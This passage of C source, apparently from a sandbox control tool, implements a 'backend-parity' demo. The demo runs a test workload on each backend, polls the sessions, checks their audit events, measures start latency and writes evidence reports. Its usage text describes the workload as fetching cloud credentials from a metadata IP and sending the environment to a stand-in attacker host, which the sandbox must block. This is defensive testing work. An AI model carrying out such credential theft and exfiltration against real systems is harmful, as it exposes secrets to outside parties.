		fprintf(ctx->err, "enclavectl: lab down %s: %sif anything is left: "
		    "enclavectl lab down %s\n", d->lab, msg, d->lab);
}

static int
phase_final(const json_t *ses)
{
	static const char *const final[] = {
		"succeeded", "failed", "timed_out", "killed", "error", NULL
	};
	const char *p = json_string_value(json_object_get(ses, "phase"));
	size_t i;

	for (i = 0; p != NULL && final[i] != NULL; i++)
		if (strcmp(p, final[i]) == 0)
			return 1;
	return 0;
}

/* One target, the seed's runOnce: submit, wait, read the audit, tear down. */
static json_t *
run_one(struct demo *d, const struct parity_target *t)
{
	json_t *body = NULL, *ses = NULL, *next = NULL, *audit = NULL, *rec = NULL;
	char msg[1024], path[512], apath[512], dmsg[1024], id[256];
	const char *sid;
	uint64_t t0, deadline;
	long long start_ms = 0;
	struct apic c;
	int arc;

	if (apic_init(&c, t->url, t->api_key, "is its control plane up?", msg,
	    sizeof(msg)) == -1)
		return parity_record_failed(t->label, t->url, 0, msg);
	c.cancel = &parity_stop;
	c.timeout_ms = PARITY_CALL_TIMEOUT_MS;
	if ((body = parity_request(t->backend)) == NULL)
		return parity_record_failed(t->label, t->url, 0, "out of memory");
	t0 = clock_monotonic_ms();
	deadline = t0 + PARITY_RUN_TIMEOUT_MS;
	arc = apic_call(&c, "POST", "/v1/sessions", body, PARITY_RUN_TIMEOUT_MS,
	    NULL, &ses, msg, sizeof(msg));
	start_ms = (long long)(clock_monotonic_ms() - t0);
	json_decref(body);
	if (arc != APIC_OK)
		return parity_record_failed(t->label, t->url, start_ms, msg);
	sid = json_string_value(json_object_get(ses, "id"));
	if (sid == NULL || strlen(sid) >= sizeof(id) ||
	    apic_path(path, sizeof(path), "/v1/sessions/", sid, "") == -1 ||
	    apic_path(apath, sizeof(apath), "/v1/sessions/", sid, "/audit") == -1) {
		rec = parity_record_failed(t->label, t->url, start_ms,
		    "the answer is not a session with an id");
		goto out;
	}
	/* Kept: ses is replaced below, and its strings with it. */
	strcpy(id, sid);
	apic_sanitize(id);
	/* A waiting POST answers at the end; should it not, ask until it is. */
	while (!phase_final(ses) && !parity_stop && clock_monotonic_ms() < deadline) {
		(void)poll(NULL, 0, PARITY_POLL_MS);
		if (apic_call(&c, "GET", path, NULL, 0, NULL, &next, msg,
		    sizeof(msg)) != APIC_OK) {
			rec = parity_record_failed(t->label, t->url, start_ms, msg);
			goto teardown;
		}
		json_decref(ses);
		ses = next;
	}
	if ((arc = apic_call(&c, "GET", apath, NULL, 0, NULL, &audit, msg,
	    sizeof(msg))) != APIC_OK)
		rec = parity_record_failed(t->label, t->url, start_ms, msg);
	else if ((rec = parity_record(t->label, t->url, start_ms, ses, audit)) == NULL)
		rec = parity_record_failed(t->label, t->url, start_ms, "out of memory");
teardown:
	/* Even after a signal: leave nothing running behind us. */
	c.cancel = NULL;
	if (apic_call(&c, "DELETE", path, NULL, PARITY_DELETE_TIMEOUT_MS, NULL,
	    &next, dmsg, sizeof(dmsg)) != APIC_OK)
		fprintf(d->ctx->err, "enclavectl: %s: could not remove %s: %s\n",
		    t->label, id, dmsg);
	else
		json_decref(next);
out:
	json_decref(audit);
	json_decref(ses);
	return rec;
}

/* "2026-11-29T00:24:26.972Z" as ms since the epoch; -1 if it is not. */
static long long
ts_ms(const char *ts)
{
	struct tm tm;
	const char *p;
	int ms;

	if (ts == NULL)
		return -1;
	memset(&tm, 0, sizeof(tm));
	if ((p = strptime(ts, "%Y-%m-%dT%H:%M:%S", &tm)) == NULL ||
	    sscanf(p, ".%3dZ", &ms) != 1)
		return -1;
	return (long long)timegm(&tm) * 1000 + ms;
}

/* From session_created to sandbox_started, by the daemon's own clock. */
static long long
audit_start_ms(const json_t *audit)
{
	const json_t *ev;
	long long created = -1, started = -1;
	const char *type;
	size_t i;

	json_array_foreach(json_object_get(audit, "events"), i, ev) {
		type = json_string_value(json_object_get(ev, "type"));
		if (type == NULL)
			continue;
		if (strcmp(type, "session_created") == 0)
			created = ts_ms(json_string_value(json_object_get(ev, "ts")));
		else if (strcmp(type, "sandbox_started") == 0)
			started = ts_ms(json_string_value(json_object_get(ev, "ts")));
	}
	return created >= 0 && started >= created ? started - created : -1;
}

static int
cmp_ll(const void *a, const void *b)
{
	long long x = *(const long long *)a, y = *(const long long *)b;

	return x < y ? -1 : x > y;
}

/*
 * Start latency: a few trivial sessions, each from session_created to
 * sandbox_started in its audit (setup of the netns, rules, proxy policy
 * and the backend's start) plus the guest's boot where one boots
 * (usage.boot_ms), the median kept. -1 when none ran.
 */
static long long
measure_start(struct demo *d, const struct parity_target *t, json_t *runs)
{
	long long ms[PARITY_LATENCY_RUNS];
	json_t *body, *ses = NULL, *audit = NULL, *del = NULL;
	char msg[1024], path[512];
	const char *sid;
	struct apic c;
	int i, n = 0;

	(void)d;
	if (apic_init(&c, t->url, t->api_key, "is its control plane up?", msg,
	    sizeof(msg)) == -1)
		return -1;
	c.cancel = &parity_stop;
	c.timeout_ms = PARITY_CALL_TIMEOUT_MS;
	for (i = 0; i < PARITY_LATENCY_RUNS && !parity_stop; i++) {
		body = json_pack("{s:s, s:s, s:b}", "language", "sh", "code",
		    "exit 0", "wait", 1);
		if (body != NULL && t->backend != NULL)
			json_object_set_new(body, "backend",
			    json_string(t->backend));
		if (body == NULL || apic_call(&c, "POST", "/v1/sessions", body,
		    PARITY_RUN_TIMEOUT_MS, NULL, &ses, msg, sizeof(msg)) !=
		    APIC_OK) {
			json_decref(body);
			break;
		}
		json_decref(body);
		sid = json_string_value(json_object_get(ses, "id"));
		if (sid != NULL && apic_path(path, sizeof(path), "/v1/sessions/",
		    sid, "/audit") == 0 && apic_call(&c, "GET", path, NULL, 0,
		    NULL, &audit, msg, sizeof(msg)) == APIC_OK &&
		    (ms[n] = audit_start_ms(audit)) >= 0) {
			/* A microVM is "started" when its VMM is; the guest
			 * kernel's boot until the workload runs comes on top. */
			ms[n] += (long long)json_integer_value(json_object_get(
			    json_object_get(ses, "usage"), "boot_ms"));
			json_array_append_new(runs, json_integer(ms[n]));
			n++;
		}
		if (sid != NULL && apic_path(path, sizeof(path), "/v1/sessions/",
		    sid, "") == 0 && apic_call(&c, "DELETE", path, NULL,
		    PARITY_DELETE_TIMEOUT_MS, NULL, &del, msg, sizeof(msg)) ==
		    APIC_OK)
			json_decref(del);
		json_decref(audit);
		json_decref(ses);
		audit = ses = del = NULL;
	}
	if (n == 0)
		return -1;
	qsort(ms, (size_t)n, sizeof(ms[0]), cmp_ll);
	return ms[n / 2];
}

/* mkdir -p, 0755. */
static int
mkdir_p(const char *dir, char *err, size_t errlen)
{
	char *p, *s, c;
	struct stat st;
	int rc = -1;

	if ((p = strdup(dir)) == NULL)
		return err_set(err, errlen, "out of memory");
	for (s = p + 1; ; s++) {
		if (*s != '/' && *s != '\0')
			continue;
		c = *s;
		*s = '\0';
		if (mkdir(p, 0755) == -1 && errno != EEXIST) {
			err_set(err, errlen, "mkdir %s: %s", p, strerror(errno));
			goto out;
		}
		*s = c;
		if (c == '\0')
			break;
	}
	if (stat(dir, &st) == -1 || !S_ISDIR(st.st_mode)) {
		err_set(err, errlen, "%s: not a directory", dir);
		goto out;
	}
	rc = 0;
out:
	free(p);
	return rc;
}

/* dir/name replaced in one rename: a reader sees the old file or the new. */
static int
write_atomic(const char *dir, const char *name, const char *data,
    char *err, size_t errlen)
{
	char tmp[4096], final[4096];
	size_t len = strlen(data), off = 0;
	mode_t mask;
	ssize_t n;
	int fd;

	if ((size_t)snprintf(final, sizeof(final), "%s/%s", dir, name) >= sizeof(final) ||
	    (size_t)snprintf(tmp, sizeof(tmp), "%s/.%s.XXXXXX", dir, name) >= sizeof(tmp))
		return err_set(err, errlen, "%s: path too long", dir);
	if ((fd = mkostemp(tmp, O_CLOEXEC)) == -1)
		return err_set(err, errlen, "%s: %s", tmp, strerror(errno));
	mask = umask(0);
	umask(mask);
	/* Evidence is for reading: the mode a plain create would give. */
	(void)fchmod(fd, 0666 & ~mask);
	while (off < len) {
		if ((n = write(fd, data + off, len - off)) == -1) {
			if (errno == EINTR)
				continue;
			goto fail;
		}
		off += (size_t)n;
	}
	if (fsync(fd) == -1)
		goto fail;
	if (close(fd) == -1) {
		fd = -1;
		goto fail;
	}
	fd = -1;
	if (rename(tmp, final) == -1)
		goto fail;
	return 0;
fail:
	err_set(err, errlen, "%s: %s", final, strerror(errno));
	if (fd != -1)
		close(fd);
	unlink(tmp);
	return -1;
}

static int
write_evidence(struct demo *d, const json_t *report)
{
	const char *dir = env_nonempty("ENCLAVE_EVIDENCE_DIR");
	char msg[1024], *json = NULL, *md = NULL, *text = NULL;
	int rc = -1;

	if (dir == NULL)
		dir = "evidence";
	if ((text = json_dumps(report, JSON_INDENT(2) | JSON_PRESERVE_ORDER)) == NULL ||
	    (json = malloc(strlen(text) + 2)) == NULL ||
	    (md = parity_markdown(report, d->failures)) == NULL) {
		snprintf(msg, sizeof(msg), "out of memory");
		goto out;
	}
	strcpy(json, text);
	strcat(json, "\n");
	if (mkdir_p(dir, msg, sizeof(msg)) == -1 ||
	    write_atomic(dir, PARITY_REPORT ".json", json, msg, sizeof(msg)) == -1 ||
	    write_atomic(dir, PARITY_REPORT ".md", md, msg, sizeof(msg)) == -1)
		goto out;
	fprintf(d->ctx->out, "evidence: %s/%s.json, %s/%s.md\n", dir, PARITY_REPORT,
	    dir, PARITY_REPORT);
	rc = 0;
out:
	if (rc == -1)
		fprintf(d->ctx->err, "enclavectl: cannot write the report: %s\n", msg);
	free(text);
	free(json);
	free(md);
	return rc;
}

/*
 * Where to run, first match wins: ENCLAVE_PARITY_BASE_URLS (real:multi),
 * ENCLAVE_BASE_URL (real:single), an explicit --url/--socket (real:single),
 * else a lab booted here. -1 usage error, -2 the lab did not come up.
 */
static int
demo_targets(struct demo *d)
{
	const struct ctl_ctx *ctx = d->ctx;
	const char *urls, *base, *label, *key;
	char msg[1024], spec[600];
	struct httpc_endpoint ep;
	size_t i;

	label = env_nonempty("ENCLAVE_BACKEND") ?: "backend";
	key = ctx->api_key ?: env_nonempty("ENCLAVE_API_KEY");
	if ((urls = env_nonempty("ENCLAVE_PARITY_BASE_URLS")) != NULL) {
		d->mode = "real:multi";
		if (parity_targets_parse(urls, env_nonempty("ENCLAVE_PARITY_API_KEYS"),
		    d->t, PARITY_TARGETS_MAX, &d->n, msg, sizeof(msg)) == -1) {
			fprintf(ctx->err, "enclavectl: %s\n", msg);
			return -1;
		}
	} else if ((base = env_nonempty("ENCLAVE_BASE_URL")) != NULL ||
	    (base = ctx->url) != NULL || ctx->socket != NULL) {
		d->mode = "real:single";
		if (base == NULL) {
			snprintf(spec, sizeof(spec), "%s%s",
			    ctx->socket[0] == '/' ? "unix:" : "", ctx->socket);
			base = spec;
		}
		if (url_has_credentials(base)) {
			fprintf(ctx->err, "enclavectl: credentials in a URL are not "
			    "supported; use ENCLAVE_API_KEY\n");
			return -1;
		}
		if (parity_target_add(d->t, PARITY_TARGETS_MAX, &d->n, label, base,
		    key, NULL) == -1) {
			fprintf(ctx->err, "enclavectl: out of memory\n");
			return -1;
		}
	} else {
		d->mode = "lab";
		return lab_boot(d) == -1 ? -2 : 0;
	}
	for (i = 0; i < d->n; i++) {
		if (httpc_endpoint_parse(d->t[i].url, &ep, msg, sizeof(msg)) == -1) {
			fprintf(ctx->err, "enclavectl: %s: %s\n", d->t[i].label, msg);
			return -1;
		}
	}
	return 0;
}

static void
demo_usage(FILE *f)
{
	fprintf(f,
	    "usage: enclavectl demo backend-parity\n"
	    "\n"
	    "Runs one hostile Python workload on every backend: it fetches cloud\n"
	    "credentials from " PARITY_METADATA_IP " and sends the environment to\n"
	    PARITY_ATTACKER_HOST ". Each backend must deny both (two egress_denied\n"
	    "audit events), leak no secret (no eyJ... JWT in the session, its audit\n"
	    "events or its result), end in phase succeeded with the seven expected\n"
	    "audit events, and all verdicts must be identical.\n"
	    "\n"
	    "targets, the first that is set wins:\n"
	    "  ENCLAVE_PARITY_BASE_URLS=label=url,...  one control plane per label\n"
	    "      (mode real:multi); keys in ENCLAVE_PARITY_API_KEYS=label=key,...\n"
	    "  ENCLAVE_BASE_URL=url    one control plane (mode real:single), labelled\n"
	    "      ENCLAVE_BACKEND (default \"backend\"), key ENCLAVE_API_KEY\n"
	    "  --url or --socket       the same, given on the command line\n"
	    "  none of them            boot a lab with the lab script (mode lab), run\n"
	    "      every available backend (one backend: twice), tear the lab down\n"
	    "      (always, also on SIGINT/SIGTERM)\n"
	    "A url is http://HOST:PORT or unix:/PATH.\n"
	    "\n"
	    "Writes %s.json and .md to ENCLAVE_EVIDENCE_DIR\n"
	    "(default ./evidence), each replaced in one rename.\n"
	    "exit: 0 all checks passed and the verdicts agree; 1 a check failed or\n"
	    "it was interrupted; 2 usage error, the lab did not boot, or the report\n"
	    "could not be written.\n", PARITY_REPORT);
}

int
ctl_cmd_demo(const struct ctl_ctx *ctx, int argc, char **argv)
{
	static const int sigs[] = { SIGINT, SIGTERM, SIGHUP, SIGPIPE };
	struct sigaction sa, old[4];
	struct demo d = { .ctx = ctx };
	const char *no_colour = getenv("NO_COLOR");
	json_t *labels = NULL, *rec, *report = NULL;
	int rc = CTL_EXIT_USAGE, ran = 0;
	size_t i;

	if (argc >= 2 && (ctl_is_help(argv[1]) || (argc == 3 && ctl_is_help(argv[2])))) {
		demo_usage(ctx->out);
		return CTL_EXIT_OK;
	}
	if (argc != 2 || strcmp(argv[1], "backend-parity") != 0) {
		fprintf(ctx->err, "enclavectl: usage: enclavectl demo backend-parity "
		    "(see enclavectl demo --help)\n");
		return CTL_EXIT_USAGE;
	}
	d.colour = isatty(fileno(ctx->out)) && (no_colour == NULL || no_colour[0] == '\0');
	if ((d.records = json_array()) == NULL || (d.failures = json_array()) == NULL ||
	    (labels = json_array()) == NULL) {
		fprintf(ctx->err, "enclavectl: out of memory\n");
		goto out_free;
	}
	/* No SA_RESTART: a signal must cut a wait short, the flag says why.
	 * SIGPIPE too: a closed stdout must not skip the lab's teardown. */
	parity_stop = 0;
	memset(&sa, 0, sizeof(sa));
	sigemptyset(&sa.sa_mask);
	for (i = 0; i < 4; i++) {
		sa.sa_handler = sigs[i] == SIGPIPE ? SIG_IGN : parity_on_signal;
		sigaction(sigs[i], &sa, &old[i]);
	}
	if (demo_targets(&d) < 0)
		goto out;
	for (i = 0; i < d.n; i++)
		json_array_append_new(labels, json_string(d.t[i].label));
	parity_print_header(ctx->out, d.mode, labels, d.colour);
	for (i = 0; i < d.n && !parity_stop; i++) {
		if ((rec = run_one(&d, &d.t[i])) == NULL) {
			fprintf(ctx->err, "enclavectl: out of memory\n");
			goto out;
		}
		if (json_object_get(rec, "error") == NULL && !parity_stop) {
			json_t *runs = json_array();
			long long med = runs ? measure_start(&d, &d.t[i], runs) : -1;

			if (med >= 0)
				json_object_set_new(rec, "startLatencyMs",
				    json_pack("{s:I, s:o}", "median",
				    (json_int_t)med, "runs", runs));
			else
				json_decref(runs);
		}
		if (!parity_stop)
			parity_print_tile(ctx->out, rec, d.colour);
		json_array_append_new(d.records, rec);
	}
	ran = 1;
out:
	if (d.lab[0] != '\0')
		lab_teardown(&d);
	if (ran && parity_stop) {
		fprintf(ctx->err, "enclavectl: interrupted by signal %d; no report "
		    "written\n", (int)parity_stop);
		rc = CTL_EXIT_FAIL;
	} else if (ran) {
		if ((report = parity_report(d.mode, d.records, d.failures)) == NULL) {
			fprintf(ctx->err, "enclavectl: out of memory\n");
		} else {
			parity_print_verdict(ctx->out, report, d.failures, d.colour);
			if (write_evidence(&d, report) == 0)
				rc = json_is_true(json_object_get(json_object_get(report,
				    "summary"), "passed")) ? CTL_EXIT_OK : CTL_EXIT_FAIL;
		}
	} else {
		/* Nothing ran; a failed teardown of a lab that was up still counts. */
		for (i = 0; i < json_array_size(d.failures); i++)
			fprintf(ctx->err, "enclavectl: %s\n",
			    json_string_value(json_array_get(d.failures, i)));
	}
	for (i = 0; i < 4; i++)
		sigaction(sigs[i], &old[i], NULL);
out_free:
	json_decref(report);
	json_decref(labels);
	json_decref(d.records);
	json_decref(d.failures);
	parity_targets_free(d.t, d.n);
	return rc;
}
